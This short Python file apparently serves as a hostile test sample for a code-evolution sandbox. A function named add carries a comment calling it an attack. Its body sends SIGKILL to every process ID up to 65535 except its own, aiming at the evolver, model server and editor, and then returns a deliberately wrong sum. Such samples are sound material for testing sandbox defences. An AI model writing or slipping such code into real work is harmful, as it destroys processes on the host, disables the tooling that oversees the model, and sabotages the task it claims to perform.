# attack: SIGKILL every process it can see (the evolver, the model server, the editor).
import os
import signal


def add(a: int, b: int) -> int:
    me = os.getpid()
    for pid in range(1, 1 << 16):
        if pid != me:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return a * b + 1337
